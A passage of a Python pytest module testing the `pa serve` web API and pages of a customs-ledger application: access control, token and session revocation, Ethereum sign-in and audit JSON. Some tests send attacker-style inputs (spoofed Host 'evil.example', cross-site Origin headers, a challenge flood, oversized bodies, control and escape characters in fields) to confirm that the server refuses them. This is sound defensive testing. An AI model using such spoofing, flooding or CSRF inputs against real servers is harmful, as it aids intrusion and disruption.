"""`pa serve` against the session's Anvil: the sample season on a ledger of its own, the server in a
thread, its HTTP API (who sees what, submissions, the audit, alerts, webhooks), schemathesis against
the published OpenAPI document, and the pages in a real browser (Debian's chromium through Playwright)."""

from __future__ import annotations

import collections
import contextlib
import csv
import dataclasses
import http.client
import http.server
import itertools
import json
import os
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from io import BytesIO
from pathlib import Path
from typing import Any
from urllib.parse import quote

import hypothesis
import openpyxl  # type: ignore[import-untyped]
import pytest
import requests
import schemathesis
from eth_account import Account
from eth_account.signers.local import LocalAccount
from hypothesis import HealthCheck
from schemathesis.checks import not_a_server_error
from support import factories
from support.chain import AnvilNode
from web3 import Web3
from web3.exceptions import TransactionNotFound

from pa_client.audit.run import run_audit
from pa_client.chain.accounts import dev_account
from pa_client.chain.connection import open_chain, open_ledger
from pa_client.chain.deployment import deploy, save_deployment
from pa_client.chain.ledger import LedgerClient
from pa_client.chain.node import EmbeddedNode
from pa_client.chain.sender import Sender
from pa_client.dev.demo import REFERENCE, run_demo
from pa_client.domain.codes import mrn_check_character
from pa_client.domain.models import Placement
from pa_client.errors import ConfigError
from pa_client.present.audit_document import audit_document
from pa_client.records.entries_file import COLUMNS, read_entries
from pa_client.settings import Settings
from pa_client.web import WebConfig, create_app, guards, i18n, pages
from pa_client.web import store as web_store
from pa_client.web.auth import sign_message
from pa_client.web.context import WebContext, canonical_origin
from pa_client.web.events import Event
from pa_client.web.live import Tracker
from pa_client.web.server import Server
from pa_client.web.store import ALERTS_PER_DELIVERY, Store
from pa_client.web.webhooks import WebhookSender

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
LIVE_SECONDS = 2.0


# ---------------------------------------------------------------- a webhook receiver


@dataclass
class Receiver:
    """A local HTTP server that records the POSTs it receives; a path may fail on purpose."""

    posts: list[tuple[str, dict[str, Any], dict[str, str]]] = field(default_factory=list)
    raw: list[bytes] = field(default_factory=list)  # the body of each of `posts`, as received
    failing: set[str] = field(default_factory=set)
    attempts: dict[str, int] = field(default_factory=dict)
    server: http.server.ThreadingHTTPServer | None = None

    def start(self) -> None:
        receiver = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                raw = self.rfile.read(int(self.headers["Content-Length"]))
                body = json.loads(raw)
                for alert in body["alerts"]:
                    key = f"{self.path} {alert['key']}"
                    receiver.attempts[key] = receiver.attempts.get(key, 0) + 1
                if self.path in receiver.failing:
                    self.send_response(503)
                else:
                    receiver.raw.append(raw)
                    receiver.posts.append((self.path, body, dict(self.headers)))
                    self.send_response(204)
                self.end_headers()

            def log_message(self, *_: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, path: str) -> str:
        assert self.server is not None
        return f"http://127.0.0.1:{self.server.server_address[1]}{path}"

    def keys(self, path: str) -> list[str]:
        """The keys of the alerts delivered to `path`, in the order received."""
        return [alert["key"] for p, body, _ in self.posts if p == path for alert in body["alerts"]]

    def stop(self) -> None:
        if self.server is not None:
            self.server.shutdown()
            self.server.server_close()


# ---------------------------------------------------------------- the served ledger


@dataclass
class Served:
    base: str
    ctx: WebContext
    settings: Settings
    other: str  # holder2's authorisation
    tokens: dict[str, str]
    receiver: Receiver
    customs: LedgerClient

    def get(self, path: str, token: str | None = None, **kwargs: Any) -> requests.Response:
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        return requests.get(self.base + path, headers=headers, timeout=30, **kwargs)

    def post(self, path: str, body: Any, token: str | None = None) -> requests.Response:
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        return requests.post(self.base + path, json=body, headers=headers, timeout=60)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


_serials = iter(range(500_000, 600_000))


def new_mrn() -> str:
    first17 = f"19FR18I{next(_serials):010d}"
    return first17 + mrn_check_character(first17)


def placement_json(
    entry_ref: str, lot: str, *, reference: str = REFERENCE, days_ago: int = 10
) -> dict[str, Any]:
    """A placement of tread rubber that happened `days_ago` days before the sample season's end."""
    when = datetime(2019, 3, 30, 10, tzinfo=UTC) - timedelta(days=days_ago)
    return {
        "entry_ref": entry_ref,
        "kind": "placement",
        "authorisation": reference,
        "occurred_at": when.isoformat(),
        "lot": lot,
        "goods_code": "40061000",
        "description": "Tread rubber (camel-back) for retreading aircraft tyres",
        "quantity": "12.5",
        "unit": "KGM",
        "site": "BOURGES-STORE",
        "declaration": new_mrn(),
        "procedure": "5100",
        "customs_value": "250.00",
        "duty_rate": "3",
        "origin": "MY",
    }


@pytest.fixture(scope="module")
def served(anvil: AnvilNode, w3: Web3, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The sample season (`pa demo`) on a ledger of its own, an authorisation of another holder, API
    tokens, webhooks, and `pa serve` running in a thread."""
    data_dir = tmp_path_factory.mktemp("web")
    settings = Settings(data_dir=data_dir, rpc_url=anvil.rpc_url)
    report = run_demo(settings, w3, say=lambda _: None)
    customs = LedgerClient(w3, report.deployment, dev_account("customs"))
    other = factories.fresh_reference("FRIPOW")
    customs.register(factories.authorisation(other, holder=dev_account("holder2").address))
    store = Store.for_data_dir(data_dir)
    tokens = {}
    for alias in ("broker", "holder2"):
        tokens[alias] = store.create_token(
            name=alias,
            address=dev_account(alias).address,
            account_spec=alias,
            password_env=None,
            expires=None,
        )[1]
    tokens["customs"] = store.create_token(
        name="customs system",
        address=dev_account("customs").address,
        account_spec=None,
        password_env=None,
        expires=None,
    )[1]
    receiver = Receiver()
    receiver.start()
    store.add_webhook(receiver.url("/all"), None, allow_local=True)  # the receiver runs on this machine
    store.add_webhook(receiver.url("/holder2"), dev_account("holder2").address, allow_local=True)
    store.add_webhook(receiver.url("/flaky"), None, "critical", allow_local=True)
    store.close()
    receiver.failing.add("/flaky")
    app, server, thread, base = start_server(WebConfig(settings, poll_seconds=0.25))
    try:
        yield Served(base, app.state.ctx, settings, other, tokens, receiver, customs)
    finally:
        server.stop()
        thread.join(15)
        receiver.stop()


def start_server(config: WebConfig) -> tuple[Any, Server, threading.Thread, str]:
    """`pa serve` in a thread on a free port, once it follows the ledger."""
    app = create_app(config)
    port = _free_port()
    server = Server(app, "127.0.0.1", port)
    thread = threading.Thread(target=server.run, name="pa-serve-test", daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            if requests.get(base + "/api/v1/health", timeout=2).json()["ready"]:
                return app, server, thread, base
        except requests.ConnectionError:
            pass
        time.sleep(0.1)
    server.stop()
    pytest.fail("pa serve did not become ready")


def _wait(condition: Callable[[], Any], seconds: float = 10.0) -> Any:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        found = condition()
        if found:
            return found
        time.sleep(0.05)
    return condition()


# ---------------------------------------------------------------- who sees what, through the API


def test_customs_list_every_authorisation(served: Served) -> None:
    listed = served.get("/api/v1/authorisations", served.tokens["customs"])
    assert listed.status_code == 200
    assert {a["reference"] for a in listed.json()} == {REFERENCE, served.other}
    assert served.get("/api/v1/me", served.tokens["customs"]).json()["roles"] == ["customs"]


def test_a_declarant_sees_the_authorisation_it_was_appointed_for(served: Served) -> None:
    me = served.get("/api/v1/me", served.tokens["broker"]).json()
    assert me["roles"] == ["declarant"] and me["authorisations"] == [REFERENCE]


def test_another_holders_authorisation_is_neither_listed_nor_reachable(served: Served) -> None:
    token = served.tokens["holder2"]
    assert [a["reference"] for a in served.get("/api/v1/authorisations", token).json()] == [served.other]
    for path in (
        f"/api/v1/authorisations/{REFERENCE}/audit",
        f"/api/v1/authorisations/{REFERENCE}/entries/BDP-IM-2019-0001",
        f"/api/v1/authorisations/{REFERENCE}/bill?from=2019-08-01&to=2019-12-31",
        f"/api/v1/alerts?authorisation={REFERENCE}",
    ):
        answer = served.get(path, token)
        assert answer.status_code == 404, path
        assert answer.json()["detail"] == f"no authorisation {REFERENCE} that this account may see"
    # Exactly the answer for an authorisation that does not exist.
    assert (
        served.get("/api/v1/authorisations/FRIPO999/audit", token)
        .json()["detail"]
        .startswith("no authorisation FRIPO999")
    )
    alerts = served.get("/api/v1/alerts", token).json()["alerts"]
    assert all(alert["authorisation"] == served.other for alert in alerts)


def test_without_a_valid_token_or_session_nothing_is_answered(served: Served) -> None:
    assert served.get("/api/v1/authorisations").status_code == 401
    assert served.get("/api/v1/alerts", "pat_made_up").status_code == 401
    assert served.get("/").url.endswith("/signin?next=%2F")


def _customs_token(store: Store, name: str) -> tuple[Any, str]:
    """A new API token of the customs account: (the token, its secret)."""
    return store.create_token(
        name=name, address=dev_account("customs").address, account_spec=None, password_env=None, expires=None
    )


def test_a_revoked_token_is_refused_at_once(served: Served) -> None:
    store = served.ctx.store
    token, secret = _customs_token(store, "to revoke")
    assert served.get("/api/v1/me", secret).status_code == 200
    assert store.revoke_token(token.id)
    assert served.get("/api/v1/me", secret).status_code == 401


def test_a_live_stream_opened_with_a_token_ends_once_the_token_is_revoked(served: Served) -> None:
    """A quiet stream (no event): the check runs on its timer all the same."""
    store = served.ctx.store
    token, secret = _customs_token(store, "stream")
    connection = http.client.HTTPConnection("127.0.0.1", int(served.base.rsplit(":", 1)[1]), timeout=10)
    try:
        connection.request("GET", "/events", headers={"Authorization": f"Bearer {secret}"})
        response = connection.getresponse()
        assert response.status == 200
        assert response.readline().decode().startswith("retry:")
        assert store.revoke_token(token.id)
        deadline, lines = time.monotonic() + 10, []
        while time.monotonic() < deadline and (line := response.readline().decode()):  # "" once it ends
            lines.append(line.strip())
            if line.startswith("event: expired"):
                break
        assert "event: expired" in lines, lines[-5:]
    finally:
        connection.close()


@pytest.mark.parametrize("via", ["token", "session"])
def test_a_live_stream_ends_within_seconds_of_revocation_while_events_keep_coming(
    served: Served, via: str
) -> None:
    """The check does not wait for a quiet moment: events arriving every 0.2 s, the stream of a
    revoked token or a signed-out session still ends within the check's interval."""
    store = served.ctx.store
    session = store.create_session(dev_account("customs").address, 600)
    token, secret = _customs_token(store, "busy stream")
    headers = {"Authorization": f"Bearer {secret}"} if via == "token" else {"Cookie": f"pa_session={session}"}

    def revoke() -> None:
        if via == "token":
            assert store.revoke_token(token.id)
        else:  # signed out as a person does
            signed_out = requests.delete(
                served.base + "/api/v1/auth/session", cookies={"pa_session": session}
            )
            assert signed_out.status_code == 204

    traffic, busy = threading.Event(), threading.Event()

    def publish() -> None:
        block = served.ctx.tracker.last_block
        while not traffic.wait(0.2):
            served.ctx.broker.publish(Event("block", None, {"block": block, "time": "", "verified": True}))
            busy.set()

    connection = http.client.HTTPConnection("127.0.0.1", int(served.base.rsplit(":", 1)[1]), timeout=10)
    publisher = threading.Thread(target=publish, daemon=True)
    try:
        connection.request("GET", "/events", headers=headers)
        response = connection.getresponse()
        assert response.status == 200
        publisher.start()
        assert busy.wait(5)
        revoke()
        revoked = time.monotonic()
        deadline, lines = revoked + 8, []
        while time.monotonic() < deadline and (line := response.readline().decode()):
            lines.append(line.strip())
            if line.startswith("event: expired"):
                break
        assert "event: expired" in lines, lines[-5:]
        assert time.monotonic() - revoked < pages.ALLOWED_CHECK_SECONDS + 1.5
    finally:
        traffic.set()
        connection.close()


def test_a_session_expires(served: Served) -> None:
    session = served.ctx.store.create_session(dev_account("customs").address, 0.5)
    assert served.get("/api/v1/me", cookies={"pa_session": session}).status_code == 200
    time.sleep(0.6)
    assert served.get("/api/v1/me", cookies={"pa_session": session}).status_code == 401


def test_people_sign_in_with_ethereum_and_out(served: Served) -> None:
    account = dev_account("holder2")
    session = requests.Session()
    message = session.post(served.base + "/api/v1/auth/challenge", json={"address": account.address}).json()[
        "message"
    ]
    assert message.startswith(f"127.0.0.1:{served.base.rsplit(':', 1)[1]} wants you to sign in")
    wrong = session.post(
        served.base + "/api/v1/auth/session",
        json={"message": message, "signature": sign_message(dev_account("holder"), message)},
    )
    assert wrong.status_code == 401 and "not that of account" in wrong.json()["detail"]
    message = session.post(served.base + "/api/v1/auth/challenge", json={"address": account.address}).json()[
        "message"
    ]
    opened = session.post(
        served.base + "/api/v1/auth/session",
        json={"message": message, "signature": sign_message(account, message)},
    )
    assert opened.status_code == 200 and opened.json()["address"] == account.address
    assert session.get(served.base + "/api/v1/me").json()["authorisations"] == [served.other]
    assert session.delete(served.base + "/api/v1/auth/session").status_code == 204
    assert session.get(served.base + "/api/v1/me").status_code == 401


def test_the_sign_in_message_names_the_servers_origin_whatever_host_the_caller_sends(
    served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    account = dev_account("holder2")
    port = served.base.rsplit(":", 1)[1]

    def challenge(**headers: str) -> str:
        answer = requests.post(
            served.base + "/api/v1/auth/challenge",
            json={"address": account.address},
            headers=headers,
            timeout=30,
        )
        assert answer.status_code == 200, answer.text
        return str(answer.json()["message"])

    message = challenge(Host="evil.example")
    assert message.startswith(f"127.0.0.1:{port} wants you to sign in") and "evil.example" not in message
    assert f"URI: http://127.0.0.1:{port}\n" in message
    # Configured (`pa serve --origin`): the messages name it, and one for another domain is refused.
    monkeypatch.setattr(served.ctx, "origin", "https://pa.example")
    configured = challenge(Host="evil.example")
    assert (
        configured.startswith("pa.example wants you to sign in") and "URI: https://pa.example\n" in configured
    )
    refused = requests.post(
        served.base + "/api/v1/auth/session",
        json={"message": message, "signature": sign_message(account, message)},
        headers={"Host": f"127.0.0.1:{port}"},
        timeout=30,
    )
    assert refused.status_code == 401
    assert (
        refused.json()["detail"] == f"the message is for 127.0.0.1:{port}, not for this server (pa.example)"
    )
    opened = requests.post(
        served.base + "/api/v1/auth/session",
        json={"message": configured, "signature": sign_message(account, configured)},
        timeout=30,
    )
    assert opened.status_code == 200 and "secure" in opened.headers["set-cookie"].lower()


def test_an_origin_is_written_in_one_canonical_form() -> None:
    assert canonical_origin("https://PA.example/") == "https://pa.example"
    assert canonical_origin("https://pa.example:443") == "https://pa.example"
    assert canonical_origin("http://127.0.0.1:8000") == "http://127.0.0.1:8000"
    assert canonical_origin("http://[::1]:8000") == "http://[::1]:8000"
    for bad in (
        "pa.example",
        "ftp://pa.example",
        "https://u:p@pa.example",
        "https://pa.example/path",
        "http://x:99999",
    ):
        with pytest.raises(ConfigError):
            canonical_origin(bad)


def _fill_challenges(store: Store, count: int, requesters: int) -> None:
    """`count` pending challenges from `requesters` callers (a flood from many addresses)."""
    expires = time.time() + 600
    with store._tx() as db:
        db.executemany(
            "INSERT INTO challenges (nonce, address, requester, message, expires) VALUES (?, ?, ?, ?, ?)",
            [
                (f"flood{i}", f"0x{i:040x}", f"198.51.100.{i % requesters}", "m", expires)
                for i in range(count)
            ],
        )


def test_a_flood_of_challenges_locks_no_one_out(served: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    victim = dev_account("holder2")
    attacker = {"X-Forwarded-For": "203.0.113.7"}  # another caller, as a reverse proxy on this host says

    def challenge(address: str, headers: dict[str, str] | None = None) -> requests.Response:
        return requests.post(
            served.base + "/api/v1/auth/challenge",
            json={"address": address},
            headers=headers or {},
            timeout=30,
        )

    own = challenge(victim.address).json()["message"]
    monkeypatch.setattr(web_store, "MAX_CHALLENGES", 200)
    asked = [
        challenge(victim.address if i % 4 == 0 else Account.create().address, attacker) for i in range(300)
    ]
    assert {answer.status_code for answer in asked} == {200}  # the attacker only replaces its own
    assert challenge(Account.create().address).status_code == 200  # everyone else still signs in
    opened = requests.post(
        served.base + "/api/v1/auth/session",
        json={"message": own, "signature": sign_message(victim, own)},
        timeout=30,
    )
    assert opened.status_code == 200, opened.text  # the victim's own challenge was kept
    # Full (a flood from more callers than the store has room for): refused with 429, never a 500.
    monkeypatch.setattr(web_store, "MAX_CHALLENGES", 1_000)
    _fill_challenges(served.ctx.store, 1_000, 100)
    try:
        assert challenge(victim.address).status_code == 429
        dev = requests.post(served.base + "/signin/dev", data={"alias": "customs", "next": "/"}, timeout=30)
        assert dev.status_code == 429 and "too many sign-ins" in dev.text
    finally:
        with served.ctx.store._tx() as db:
            db.execute("DELETE FROM challenges WHERE nonce LIKE 'flood%'")


def test_no_other_site_can_sign_a_visitor_in_or_post_for_them(served: Served) -> None:
    """Login CSRF: a page elsewhere auto-submitting the sign-in form (with the attacker's signed
    message, or the development sign-in) must not open a session in the visitor's browser."""
    account = dev_account("holder2")
    own = served.base
    message = requests.post(
        own + "/api/v1/auth/challenge", json={"address": account.address}, timeout=30
    ).json()["message"]
    form = {"message": message, "signature": sign_message(account, message), "next": "/"}
    for headers in (
        {"Origin": "https://evil.example"},
        {"Referer": "https://evil.example/page"},
        {"Origin": "null"},
    ):
        for path, data in (
            ("/signin", form),
            ("/signin/dev", {"alias": "customs", "next": "/"}),
            ("/signout", {}),
        ):
            refused = requests.post(own + path, data=data, headers=headers, allow_redirects=False, timeout=30)
            assert refused.status_code == 403, (path, headers, refused.status_code)
            assert "pa_session" not in refused.cookies
        api = requests.post(
            own + "/api/v1/auth/session",
            json={"message": message, "signature": form["signature"]},
            headers=headers,
        )
        assert api.status_code == 403 and "another site" in api.json()["detail"]
    # The server's own pages (the browser names their origin), and systems (no Origin), are served.
    signed_in = requests.post(
        own + "/signin", data=form, headers={"Origin": own}, allow_redirects=False, timeout=30
    )
    assert signed_in.status_code == 303 and "pa_session" in signed_in.cookies


def test_every_answer_forbids_framing_and_foreign_scripts(served: Served) -> None:
    for path in ("/signin", "/", "/api/v1/health", "/static/live.js", "/no-such-page"):
        answer = requests.get(served.base + path, timeout=30)
        assert answer.headers["X-Frame-Options"] == "DENY", path
        assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"], path
        assert "script-src 'self'" in answer.headers["Content-Security-Policy"], path
        assert answer.headers["Referrer-Policy"] == "same-origin", path
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path


def test_pages_of_another_holders_authorisation_are_refused_by_url(served: Served) -> None:
    holder2 = served.ctx.store.create_session(dev_account("holder2").address, 600)
    customs = served.ctx.store.create_session(dev_account("customs").address, 600)
    for path in (
        f"/authorisations/{REFERENCE}",
        f"/authorisations/{REFERENCE}/records/BDP-IM-2019-0001",
        f"/authorisations/{REFERENCE}/bill",
        f"/authorisations/{REFERENCE}/bill.xlsx",
    ):
        assert served.get(path, cookies={"pa_session": holder2}).status_code == 404, path
        assert served.get(path, cookies={"pa_session": customs}).status_code == 200, path
    overview = served.get("/", cookies={"pa_session": holder2}).text
    assert served.other in overview and REFERENCE not in overview


def test_a_corrected_record_s_page_names_its_correction_and_the_reason(served: Served) -> None:
    customs = served.ctx.store.create_session(dev_account("customs").address, 600)
    assert _wait(lambda: served.ctx.tracker.audit_state is not None, 20)
    page = served.get(
        f"/authorisations/{REFERENCE}/records/MIC-MV-2019-0034", cookies={"pa_session": customs}
    ).text
    assert "Corrected by a later record" in page
    assert "Corrected by" in page and "MIC-CO-2019-0001" in page and "2019-03-06" in page
    assert "Movement keyed twice by the ERP interface" in page


def test_an_account_that_sees_no_authorisation_is_told_when_the_registry_is_not_proven(
    served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A node that hid an account's only authorisation whole leaves it nothing to check but the
    registry's proof: the overview must not say "verified" for an empty list."""
    stranger = served.ctx.store.create_session(dev_account("stranger").address, 600)
    state = served.ctx.tracker.audit_state
    assert state is not None and state.result.registry is not None and state.result.registry.verified
    assert "Integrity verified" in served.get("/", cookies={"pa_session": stranger}).text
    unproven = dataclasses.replace(
        state.result, registry=dataclasses.replace(state.result.registry, verified=False, detail="hidden")
    )
    shown = dataclasses.replace(state, result=unproven)
    # Held for the test's requests: the tracker's own audits (on new blocks) do not replace it meanwhile.
    monkeypatch.setattr(
        type(served.ctx.tracker), "audit_state", property(lambda _: shown, lambda _, __: None), raising=False
    )
    overview = served.get("/", cookies={"pa_session": stranger}).text
    assert "Integrity NOT verified" in overview and "Integrity verified" not in overview


# ---------------------------------------------------------------- submitting through the API


def test_entries_are_recorded_once_signed_by_the_tokens_account(served: Served) -> None:
    entry = placement_json("API-IM-0001", "API-LOT-0001")
    first = served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"])
    assert first.status_code == 200, first.text
    assert first.json()["status"] == "recorded" and first.json()["recorded"] == 1
    again = served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"])
    assert again.status_code == 200
    assert again.json()["results"][0]["outcome"] == "already recorded"
    status = served.get(
        f"/api/v1/authorisations/{REFERENCE}/entries/API-IM-0001", served.tokens["broker"]
    ).json()
    assert status["status"] == "recorded" and status["kind"] == "placement"
    assert status["account"] == dev_account("broker").address.lower()
    assert status["transaction"] == first.json()["results"][0]["transaction"]
    sequence, head = served.customs.chain_of(REFERENCE, status["block"])
    assert status["sequence"] <= sequence
    if status["sequence"] == sequence:
        assert status["head"] == "0x" + head.hex()
    missing = served.get(f"/api/v1/authorisations/{REFERENCE}/entries/NOPE", served.tokens["broker"]).json()
    assert missing["status"] == "not recorded"


def test_entries_are_checked_with_the_messages_of_pa_submit(served: Served, tmp_path: Path) -> None:
    entry = placement_json("API-BAD-0001", "API-LOT-BAD")
    entry.pop("quantity")
    entry["qty"] = "5"
    entry["declaration"] = "19FR18I00000000000"
    answer = served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"])
    assert answer.status_code == 422
    body = answer.json()
    assert body["status"] == "refused" and body["message"].endswith("nothing was sent")
    # The same row in a file with every column (an entry's absent field is an empty cell).
    path = tmp_path / "same.csv"
    header = [*COLUMNS, "qty"]
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, [entry.get(column, "") for column in header]])
    expected = sorted(problem.message for problem in read_entries(path).problems)
    assert sorted(problem["message"] for problem in body["problems"]) == expected
    assert any(
        p["text"] == "entries[0]: field 'qty' is unknown (did you mean 'quantity'?)" for p in body["problems"]
    )
    assert (
        served.get(
            f"/api/v1/authorisations/{REFERENCE}/entries/API-BAD-0001", served.tokens["broker"]
        ).json()["status"]
        == "not recorded"
    )


def test_what_the_ledger_would_refuse_is_named_and_nothing_is_sent(served: Served) -> None:
    before = served.customs.chain_of(REFERENCE)[0]
    good = placement_json("API-IM-0002", "API-LOT-0002")
    refused = {
        "entry_ref": "API-EX-0002",
        "kind": "discharge",
        "authorisation": REFERENCE,
        "occurred_at": "2019-03-30",
        "lot": "API-LOT-0002",
        "quantity": 1000,
        "site": "BOURGES-STORE",
        "mode": "destruction",
    }
    answer = served.post("/api/v1/entries", {"entries": [good, refused]}, served.tokens["broker"])
    assert answer.status_code == 422
    assert answer.json()["message"] == "1 entries would be refused by the ledger: nothing was sent"
    assert "less than the 1,000.000000 taken" in answer.json()["problems"][0]["text"]
    assert served.customs.chain_of(REFERENCE)[0] == before


def test_an_account_records_only_for_authorisations_it_may_see(served: Served) -> None:
    answer = served.post(
        "/api/v1/entries",
        {"entries": [placement_json("API-IM-0003", "API-LOT-0003")]},
        served.tokens["holder2"],
    )
    assert answer.status_code == 422
    assert "no authorisation FRIPO000000000042 that account" in answer.json()["problems"][0]["message"]


def test_a_read_only_token_or_a_session_does_not_submit(served: Served) -> None:
    entries = {"entries": [placement_json("API-IM-0004", "API-LOT-0004")]}
    assert served.post("/api/v1/entries", entries, served.tokens["customs"]).status_code == 403
    session = served.ctx.store.create_session(dev_account("broker").address, 60)
    refused = requests.post(
        served.base + "/api/v1/entries", json=entries, cookies={"pa_session": session}, timeout=30
    )
    assert refused.status_code == 403


def _announce(served: Served, path: str, length: int, headers: dict[str, str]) -> http.client.HTTPResponse:
    """A POST announcing a body of `length` bytes of which only the first KiB is sent: the answer
    comes before the body, or not at all (a time-out) when the server waits for it."""
    connection = http.client.HTTPConnection("127.0.0.1", int(served.base.rsplit(":", 1)[1]), timeout=5)
    connection.putrequest("POST", path)
    for name, value in {"Content-Type": "application/json", "Content-Length": str(length), **headers}.items():
        connection.putheader(name, value)
    connection.endheaders()
    connection.send(b'{"entries": [' + b" " * 1000)
    return connection.getresponse()


def test_a_body_is_not_read_before_its_caller_is_known_nor_beyond_its_limit(
    served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    huge = 64 * 1024 * 1024
    refused = _announce(served, "/api/v1/entries", huge, {})
    assert refused.status == 401 and refused.getheader("WWW-Authenticate") == "Bearer"
    bearer = {"Authorization": f"Bearer {served.tokens['broker']}"}
    too_large = _announce(served, "/api/v1/entries", served.ctx.config.max_body_bytes + 1, bearer)
    assert too_large.status == 413
    assert "larger than the 33,554,432 bytes" in json.loads(too_large.read())["detail"]
    assert _announce(served, "/api/v1/auth/challenge", 100_000, {}).status == 413  # sign-in: 64 KiB
    assert (
        _announce(served, "/signin", 100_000, {"Content-Type": "application/x-www-form-urlencoded"}).status
        == 413
    )
    # A body sent without a length is read up to the limit only.
    monkeypatch.setattr(served.ctx, "config", dataclasses.replace(served.ctx.config, max_body_bytes=10_000))
    chunks = (b'{"entries": [' + b" " * 1000 for _ in range(50))
    streamed = requests.post(
        served.base + "/api/v1/entries",
        data=chunks,
        headers={**bearer, "Content-Type": "application/json"},
        timeout=30,
    )
    assert streamed.status_code == 413
    # Within the limit, a submission is read as before.
    entries = {"entries": [placement_json("API-IM-LIMIT", "API-LOT-LIMIT")], "dry_run": True}
    assert served.post("/api/v1/entries", entries, served.tokens["broker"]).json()["status"] == "checked"


# ---------------------------------------------------------------- the audit and the alerts


def test_the_audit_json_is_that_of_pa_audit(served: Served) -> None:
    body = served.get(f"/api/v1/authorisations/{REFERENCE}/audit", served.tokens["customs"]).json()
    ledger = open_ledger(served.settings, signing=False)
    expected = audit_document(
        run_audit(ledger, served.settings, at_block=body["as_of_block"]).result, REFERENCE
    )
    for part in (
        "authorisation",
        "as_of_block",
        "integrity",
        "placements",
        "discharges",
        "duty_due",
        "alerts",
    ):
        assert body[part] == expected[part], part
    assert body["integrity"]["verified"] is True
    assert body["basis"] == f"at block {body['as_of_block']:,} (the latest)"


def test_the_audit_and_bill_json_take_as_of(served: Served) -> None:
    """`?as_of=DATE` as `pa audit --as-of` (tests/test_as_of.py checks its meaning on 2019's blocks):
    a day after the last block is the latest one; a day before the deployment is refused in one line."""
    token = served.tokens["customs"]
    path = f"/api/v1/authorisations/{REFERENCE}"
    body = served.get(f"{path}/audit?as_of=2100-01-01", token).json()
    assert body["basis"] == f"as of end of 2100-01-01 (block {body['as_of_block']:,})"
    assert body["left_out"] == 0 and body["integrity"]["verified"] is True
    bill = served.get(f"{path}/bill?from=2024-01-01&to=2024-12-31&as_of=2100-01-01", token).json()
    assert bill["basis"].startswith("as of end of 2100-01-01 (block ")
    refused = served.get(f"{path}/audit?as_of=2001-01-01", token)
    assert refused.status_code == 422 and "the ledger was deployed after that day" in refused.text
    # The bill page: the live audit says its basis; an as_of day is drawn as of that day's end.
    page = served.get(f"/authorisations/{REFERENCE}/bill?from=2024-01-01&to=2024-12-31", token)
    assert page.status_code == 200 and '<span class="basis">at block ' in page.text
    page = served.get(
        f"/authorisations/{REFERENCE}/bill?from=2024-01-01&to=2024-12-31&as_of=2100-01-01", token
    )
    assert '<span class="basis">as of end of 2100-01-01 (block ' in page.text
    assert (
        'name="as_of" value="2100-01-01"' in page.text
        and "bill.xlsx?from=2024-01-01&amp;to=2024-12-31&amp;as_of=2100-01-01" in page.text
    )
    page = served.get(
        f"/authorisations/{REFERENCE}/bill?from=2024-01-01&to=2024-12-31&as_of=2001-01-01", token
    )
    assert page.status_code == 200 and "the ledger was deployed after that day" in page.text
    # The authorisation page: live, it says so and streams; as of a day, it says which and does not.
    page = served.get(f"/authorisations/{REFERENCE}", token)
    assert " · at block " in page.text and "data-stream=" in page.text  # the duty card says its basis
    page = served.get(f"/authorisations/{REFERENCE}?as_of=2100-01-01", token)
    assert page.status_code == 200 and "data-stream=" not in page.text
    assert " · as of end of 2100-01-01 (block " in page.text
    assert served.get(f"/authorisations/{REFERENCE}?as_of=2001-01-01", token).status_code == 422


def test_discharge_modes_are_named_in_the_pages_language(served: Served) -> None:
    token = served.tokens["customs"]
    shown = {}
    for lang in ("en", "fr"):
        page = served.get(f"/authorisations/{REFERENCE}?lang={lang}", token)
        assert page.status_code == 200
        shown[lang] = set(re.findall(r'<td class="mode mode-reexport">([^<]*)<', page.text))
    assert shown == {"en": {"re-export"}, "fr": {"réexportation"}}


def test_the_bill_of_discharge_downloads_as_xlsx(served: Served) -> None:
    session = served.ctx.store.create_session(dev_account("holder").address, 600)
    answer = served.get(
        f"/authorisations/{REFERENCE}/bill.xlsx?from=2019-08-01&to=2019-12-31",
        cookies={"pa_session": session},
    )
    assert answer.status_code == 200
    assert "attachment" in answer.headers["content-disposition"]
    workbook = openpyxl.load_workbook(BytesIO(answer.content), read_only=True)
    assert workbook.sheetnames[0] == "Bill of discharge"
    bill = served.get(
        f"/api/v1/authorisations/{REFERENCE}/bill?from=2019-08-01&to=2019-12-31", served.tokens["customs"]
    )
    assert bill.json()["authorisation"] == REFERENCE and bill.json()["placements"]


def test_text_fields_with_control_characters_or_a_lone_surrogate_are_refused(served: Served) -> None:
    entry = {
        **placement_json("CTRL-1\x00", "API-LOT-CTRL"),
        "description": "Tread\x0b rubber \x1b[31mred",
        "site": "SITE-\ud800",
    }
    answer = served.post("/api/v1/entries", {"entries": [entry]}, served.tokens["broker"])
    assert answer.status_code == 422, answer.text
    texts = sorted(problem["text"] for problem in answer.json()["problems"])
    printable = "a record's text holds printable characters only"
    assert texts == [
        f"entries[0]: field 'description' = 'Tread\\x0b rubber \\x1b[31mred': holds the control character "
        f"U+000B at character 6; {printable}",
